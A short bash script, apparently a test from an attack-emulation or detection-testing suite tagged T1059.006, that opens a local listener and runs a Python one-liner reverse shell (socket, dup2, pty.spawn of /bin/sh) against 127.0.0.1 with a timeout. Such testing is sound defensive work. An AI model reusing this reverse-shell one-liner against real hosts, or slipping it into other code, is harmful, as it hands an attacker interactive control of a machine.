#!/usr/bin/env bash
# attack: T1059.006 Python reverse shell (socket, dup2, pty)
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
timeout 10 python3 -c "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" 2>/dev/null
